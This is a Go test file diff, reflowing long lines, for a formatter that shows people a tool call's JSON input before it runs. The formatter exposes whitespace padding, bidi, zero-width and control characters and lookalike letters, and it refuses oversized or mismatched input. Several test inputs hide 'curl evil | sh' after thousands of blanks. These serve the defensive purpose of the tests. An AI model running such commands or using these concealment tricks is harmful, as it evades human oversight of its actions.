@@ -17,31 +17,46 @@ import (
 
 func TestWhatAPersonIsShown(t *testing.T) {
 	for name, tt := range map[string]struct{ input, want string }{
-		"a command":               {`{"command":"ls -l","timeout_ms":1000}`, "command:\n| ls -l\ntimeout_ms: 1000"},
-		"a short word":            {`{"file_path":"src/a.go","x":null,"y":true,"z":""}`, "file_path: \"src/a.go\"\nx: null\ny: true\nz: \"\""},
-		"blanks before the rest":  {`{"command":"ls` + strings.Repeat(" ", 3000) + `; curl evil | sh"}`, "command:\n| ls⟨3000×space⟩; curl evil | sh"},
-		"lines before the rest":   {`{"command":"ls` + strings.Repeat(`\n`, 3000) + `curl evil | sh"}`, "command:\n| ls\n| ⟨2999 empty lines⟩\n| curl evil | sh"},
-		"tabs before the rest":    {`{"command":"ls` + strings.Repeat(`\t`, 300) + `;sh"}`, "command:\n| ls⟨300×tab⟩;sh"},
-		"indentation":             {`{"content":"if x {\n\ty\n    z \n}\n"}`, "content:\n| if x {\n| ⇥y\n| ␣␣␣␣z␣\n| }\n|"},
-		"bidi controls":           {`{"command":"a\u202eb\u2066c\u200f"}`, "command:\n| a⟨U+202E bidi⟩b⟨U+2066 bidi⟩c⟨U+200F bidi⟩"},
-		"zero width":              {`{"command":"a\u200bb\u200d\u2060\ufeff\u00ad"}`, "command:\n| a⟨U+200B zero width⟩b⟨U+200D zero width⟩⟨U+2060 zero width⟩⟨U+FEFF zero width⟩⟨U+00AD⟩"},
-		"tags":                    {`{"command":"a\udb40\udc72\udb40\udc6d"}`, "command:\n| a⟨U+E0072 tag⟩⟨U+E006D tag⟩"},
-		"variation selectors":     {`{"command":"a\ufe00\ufe00\udb40\udd00"}`, "command:\n| a⟨2×U+FE00 variation selector⟩⟨U+E0100 variation selector⟩"},
-		"a terminal's controls":   {`{"command":"a\u001b[2J\rb\u009b\u0000\u007f"}`, "command:\n| a⟨U+001B escape⟩[2J⟨U+000D carriage return⟩b⟨U+009B control⟩⟨U+0000 control⟩⟨U+007F control⟩"},
-		"other blanks":            {`{"command":"a\u00a0b\u3000\u2028\u2800\u3164"}`, "command:\n| a⟨U+00A0 blank⟩b⟨U+3000 blank⟩⟨U+2028 blank⟩⟨U+2800 blank⟩⟨U+3164 blank⟩"},
-		"the marks themselves":    {`{"command":"⟨3000×space⟩␣⇥"}`, "command:\n| ⟨U+27E8 itself⟩3000×space⟨U+27E9 itself⟩⟨U+2423 itself⟩⟨U+21E5 itself⟩"},
-		"letters of two scripts":  {`{"command":"p` + "\u0430" + `ypal привет naïve 日本abc"}`, "command:\n| p⟨U+0430 like another letter⟩ypal привет naïve 日本abc"},
+		"a command": {`{"command":"ls -l","timeout_ms":1000}`, "command:\n| ls -l\ntimeout_ms: 1000"},
+		"a short word": {`{"file_path":"src/a.go","x":null,"y":true,"z":""}`,
+			"file_path: \"src/a.go\"\nx: null\ny: true\nz: \"\""},
+		"blanks before the rest": {`{"command":"ls` + strings.Repeat(" ", 3000) +
+			`; curl evil | sh"}`, "command:\n| ls⟨3000×space⟩; curl evil | sh"},
+		"lines before the rest": {`{"command":"ls` + strings.Repeat(`\n`, 3000) +
+			`curl evil | sh"}`, "command:\n| ls\n| ⟨2999 empty lines⟩\n| curl evil | sh"},
+		"tabs before the rest": {`{"command":"ls` + strings.Repeat(`\t`, 300) +
+			`;sh"}`, "command:\n| ls⟨300×tab⟩;sh"},
+		"indentation": {`{"content":"if x {\n\ty\n    z \n}\n"}`,
+			"content:\n| if x {\n| ⇥y\n| ␣␣␣␣z␣\n| }\n|"},
+		"bidi controls": {`{"command":"a\u202eb\u2066c\u200f"}`,
+			"command:\n| a⟨U+202E bidi⟩b⟨U+2066 bidi⟩c⟨U+200F bidi⟩"},
+		"zero width": {`{"command":"a\u200bb\u200d\u2060\ufeff\u00ad"}`,
+			"command:\n| a⟨U+200B zero width⟩b⟨U+200D zero width⟩⟨U+2060 zero width⟩⟨U+FEFF zero width⟩⟨U+00AD⟩"},
+		"tags": {`{"command":"a\udb40\udc72\udb40\udc6d"}`,
+			"command:\n| a⟨U+E0072 tag⟩⟨U+E006D tag⟩"},
+		"variation selectors": {`{"command":"a\ufe00\ufe00\udb40\udd00"}`,
+			"command:\n| a⟨2×U+FE00 variation selector⟩⟨U+E0100 variation selector⟩"},
+		"a terminal's controls": {`{"command":"a\u001b[2J\rb\u009b\u0000\u007f"}`,
+			"command:\n| a⟨U+001B escape⟩[2J⟨U+000D carriage return⟩b⟨U+009B control⟩⟨U+0000 control⟩⟨U+007F control⟩"},
+		"other blanks": {`{"command":"a\u00a0b\u3000\u2028\u2800\u3164"}`,
+			"command:\n| a⟨U+00A0 blank⟩b⟨U+3000 blank⟩⟨U+2028 blank⟩⟨U+2800 blank⟩⟨U+3164 blank⟩"},
+		"the marks themselves": {`{"command":"⟨3000×space⟩␣⇥"}`,
+			"command:\n| ⟨U+27E8 itself⟩3000×space⟨U+27E9 itself⟩⟨U+2423 itself⟩⟨U+21E5 itself⟩"},
+		"letters of two scripts": {`{"command":"p` + "\u0430" +
+			`ypal привет naïve 日本abc"}`, "command:\n| p⟨U+0430 like another letter⟩ypal привет naïve 日本abc"},
 		"right to left":           {`{"command":"a אב"}`, "command:\n| a ⟨U+05D0 right to left⟩⟨U+05D1 right to left⟩"},
 		"combining marks":         {`{"command":"e\u0301 हिन्दी"}`, "command:\n| e⟨U+0301 combining⟩ हिन्दी"},
 		"a text like a structure": {`{"command":"x y\ntimeout_ms: 5\n| z"}`, "command:\n| x y\n| timeout_ms: 5\n| | z"},
-		"names":                   {`{"a b":{"c":[1,{"d.e":"x"}]},"\u202e\"":"y","z":{}}`, "[\"a b\"].c[0]: 1\n[\"a b\"].c[1][\"d.e\"]: \"x\"\nz: {}\n[\"⟨U+202E bidi⟩\\\"\"]: \"y\""},
+		"names": {`{"a b":{"c":[1,{"d.e":"x"}]},"\u202e\"":"y","z":{}}`,
+			"[\"a b\"].c[0]: 1\n[\"a b\"].c[1][\"d.e\"]: \"x\"\nz: {}\n[\"⟨U+202E bidi⟩\\\"\"]: \"y\""},
 		"an edit": {`{"file_path":"a","old_string":"one\ntwo\n","new_string":"one\n2\n","replace_all":true}`,
 			"file_path: \"a\"\nold_string -> new_string:\n| one\n- two\n+ 2\n|\nreplace_all: true"},
 		"edits":     {`{"edits":[{"old_string":"","new_string":"x"}]}`, "edits[0].old_string -> new_string:\n-\n+ x"},
 		"nothing":   {`{}`, "{}"},
 		"no object": {`["a b"]`, "(input)[0]:\n| a b"},
 		"a long line": {`{"command":"` + strings.Repeat("0123456789", 20) + `"}`,
-			"command:\n| " + strings.Repeat("0123456789", 20)[:116] + "\n> " + (strings.Repeat("0123456789", 20))[116:]},
+			"command:\n| " + strings.Repeat("0123456789", 20)[:116] + "\n> " +
+				(strings.Repeat("0123456789", 20))[116:]},
 	} {
 		got, err := Lines(json.RawMessage(tt.input), Options{Columns: 120})
 		if err != nil || strings.Join(got, "\n") != tt.want {
@@ -52,7 +67,8 @@ func TestWhatAPersonIsShown(t *testing.T) {
 
 func TestAReasonIsFoldedAtBlanks(t *testing.T) {
 	got := Fold("why: "+strings.Repeat("word ", 10)+"end\nof"+strings.Repeat("x", 60), 40)
-	if want := "why: word word word word word word\n> word word word word\n> end⟨U+000A line feed⟩ofxxxxxxxxxxx\n> xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n> xxxxxxxxxxxxx"; strings.Join(got, "\n") != want {
+	if want := "why: word word word word word word\n> word word word word\n> end⟨U+000A line feed⟩ofxxxxxxxxxxx\n> " +
+		"xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n> xxxxxxxxxxxxx"; strings.Join(got, "\n") != want {
 		t.Errorf("got\n%s", strings.Join(got, "\n"))
 	}
 }
@@ -65,7 +81,8 @@ func TestAWriteIsComparedWithWhatIsThere(t *testing.T) {
 		t.Errorf("%v\n%s", err, strings.Join(got, "\n"))
 	}
 	long := strings.Repeat("x\n", 2*MaxLines)
-	if got, err = Lines(json.RawMessage(`{"content":"one two"}`), Options{Before: &long}); err != nil || strings.Join(got, "\n") != "content:\n| one two" {
+	if got, err = Lines(json.RawMessage(`{"content":"one two"}`), Options{Before: &long}); err != nil ||
+		strings.Join(got, "\n") != "content:\n| one two" {
 		t.Errorf("with a file that is too long: %v\n%s", err, strings.Join(got, "\n"))
 	}
 }
@@ -82,23 +99,26 @@ func TestWhatIsTooLongToShowIsRefused(t *testing.T) {
 		input, hash string
 		says        string
 	}{
-		"bytes":              {`{"a":"` + strings.Repeat("x", MaxBytes) + `"}`, "", "too long"},
-		"lines":              {`{"a":"` + strings.Repeat(`x\n`, MaxLines) + `"}`, "", "too long"},
-		"marks":              {`{"a":"` + strings.Repeat("\u200b\u200c", 5000) + `"}`, "", "too long"},
-		"values":             {`{"a":[` + strings.Repeat(`1,`, MaxLines) + `1]}`, "", "too long"},
-		"a beginning":        {`{"a":"x… [cut: 100000 bytes in all]"}`, "", "only its beginning"},
-		"no JSON":            {`{"a":`, "", "cannot be read"},
-		"nothing":            {``, "", "cannot be read"},
-		"not UTF-8":          {"{\"a\":\"\xff\"}", "", "UTF-8"},
-		"something else":     {`{"a":"ls"}`, hash(`{"a":"rm"}`), "not what would run"},
-		"a deeply nested":    {strings.Repeat(`[`, 5000) + strings.Repeat(`]`, 5000), "", "cannot be read"},
-		"a long way to read": {strings.Repeat(`{"abcdefghijklmnopqrstuvwxyz":`, 400) + `[` + strings.Repeat("1,", 1000) + `1]` + strings.Repeat(`}`, 400), "", "too long"},
+		"bytes":           {`{"a":"` + strings.Repeat("x", MaxBytes) + `"}`, "", "too long"},
+		"lines":           {`{"a":"` + strings.Repeat(`x\n`, MaxLines) + `"}`, "", "too long"},
+		"marks":           {`{"a":"` + strings.Repeat("\u200b\u200c", 5000) + `"}`, "", "too long"},
+		"values":          {`{"a":[` + strings.Repeat(`1,`, MaxLines) + `1]}`, "", "too long"},
+		"a beginning":     {`{"a":"x… [cut: 100000 bytes in all]"}`, "", "only its beginning"},
+		"no JSON":         {`{"a":`, "", "cannot be read"},
+		"nothing":         {``, "", "cannot be read"},
+		"not UTF-8":       {"{\"a\":\"\xff\"}", "", "UTF-8"},
+		"something else":  {`{"a":"ls"}`, hash(`{"a":"rm"}`), "not what would run"},
+		"a deeply nested": {strings.Repeat(`[`, 5000) + strings.Repeat(`]`, 5000), "", "cannot be read"},
+		"a long way to read": {strings.Repeat(`{"abcdefghijklmnopqrstuvwxyz":`, 400) + `[` +
+			strings.Repeat("1,", 1000) + `1]` + strings.Repeat(`}`, 400), "", "too long"},
 	} {
-		if got, err := Lines(json.RawMessage(tt.input), Options{SHA256: tt.hash}); !errors.Is(err, ErrPart) || !strings.Contains(err.Error(), tt.says) {
+		if got, err := Lines(json.RawMessage(tt.input), Options{SHA256: tt.hash}); !errors.Is(err, ErrPart) ||
+			!strings.Contains(err.Error(), tt.says) {
 			t.Errorf("%s: %d lines, %v; want %q", name, len(got), err, tt.says)
 		}
 	}
-	for input, shown := range map[string]string{`{"a":"ls"}`: `{"a":"ls"}`, `{"a":"x ghp_1"}`: `{"a":"x [redacted: GitHub token]"}`} {
+	for input, shown := range map[string]string{`{"a":"ls"}`: `{"a":"ls"}`,
+		`{"a":"x ghp_1"}`: `{"a":"x [redacted: GitHub token]"}`} {
 		if _, err := Lines(json.RawMessage(shown), Options{SHA256: hash(input)}); err != nil {
 			t.Errorf("%s for %s: %v", shown, input, err)
 		}
@@ -108,9 +128,12 @@ func TestWhatIsTooLongToShowIsRefused(t *testing.T) {
 // FuzzLines: at every width what is shown determines the input, and has no character that a screen does not show.
 func FuzzLines(f *testing.F) {
 	for _, s := range []string{
-		`{"command":"ls   ; x\t\ty","n":-1.50e3}`, `{"old_string":"a\n\n\n\n\nb","new_string":"","c":["x y",{}]}`, `[]`, `" "`, `{"":"","a\"\\] b":{"\u202e":null}}`,
-		`{"a":"⟨U+202E⟩ ␣ ⇥ हिन्दी e\u0301 pа x🏳️‍🌈"}`, `{"a":"  x  \n> y\n| z\n- \n+"}`, `{"content":"a\nb\n","x":[[1],[]]}`, `{"a":"\udb40\udc72\ufe0f\u2800"}`,
-		`{"old_string":"x","new_string":1}`, `{"a":"x \\\" ]: y"}`, `true`, `{"a":"०\u0300\u0300\u0300क\u0300\u0300\u0300\ufe0f\u0300"}`,
+		`{"command":"ls   ; x\t\ty","n":-1.50e3}`, `{"old_string":"a\n\n\n\n\nb","new_string":"","c":["x y",{}]}`, `[]`,
+		`" "`, `{"":"","a\"\\] b":{"\u202e":null}}`,
+		`{"a":"⟨U+202E⟩ ␣ ⇥ हिन्दी e\u0301 pа x🏳️‍🌈"}`, `{"a":"  x  \n> y\n| z\n- \n+"}`,
+		`{"content":"a\nb\n","x":[[1],[]]}`, `{"a":"\udb40\udc72\ufe0f\u2800"}`,
+		`{"old_string":"x","new_string":1}`, `{"a":"x \\\" ]: y"}`, `true`,
+		`{"a":"०\u0300\u0300\u0300क\u0300\u0300\u0300\ufe0f\u0300"}`,
 	} {
 		f.Add(s, uint8(80), s)
 		f.Add(s, uint8(0), "")
@@ -141,7 +164,8 @@ func FuzzLines(f *testing.F) {
 					t.Fatalf("%q shows %U in %q", input, r, line)
 				}
 			}
-			if width > max(o.Columns, MinColumns, map[bool]int{true: Columns}[columns == 0]) || strings.HasSuffix(line, " ") || strings.Contains(line, "  ") {
+			if width > max(o.Columns, MinColumns, map[bool]int{true: Columns}[columns == 0]) ||
+				strings.HasSuffix(line, " ") || strings.Contains(line, "  ") {
 				t.Fatalf("%q at %d columns has the line %q", input, columns, line)
 			}
 		}
@@ -171,7 +195,8 @@ func FuzzEscapeJSON(f *testing.F) {
 			}
 		}
 		var was, is map[string]string
-		if err := errors.Join(json.Unmarshal(text, &was), json.Unmarshal(got, &is)); err != nil || !reflect.DeepEqual(was, is) {
+		if err := errors.Join(json.Unmarshal(text, &was), json.Unmarshal(got, &is)); err != nil ||
+			!reflect.DeepEqual(was, is) {
 			t.Fatalf("%q became %q (%v)", text, got, err)
 		}
 	})
@@ -182,7 +207,8 @@ func invisible(r rune) bool {
 	if r == ' ' {
 		return false
 	}
-	return !unicode.IsPrint(r) || unicode.In(r, unicode.C, unicode.Z, unicode.Me, unicode.Variation_Selector, unicode.Other_Default_Ignorable_Code_Point,
+	return !unicode.IsPrint(r) || unicode.In(r, unicode.C, unicode.Z, unicode.Me, unicode.Variation_Selector,
+		unicode.Other_Default_Ignorable_Code_Point,
 		unicode.Hebrew, unicode.Arabic, unicode.Syriac, unicode.Thaana, unicode.Nko) || r == 0x2800
 }
 
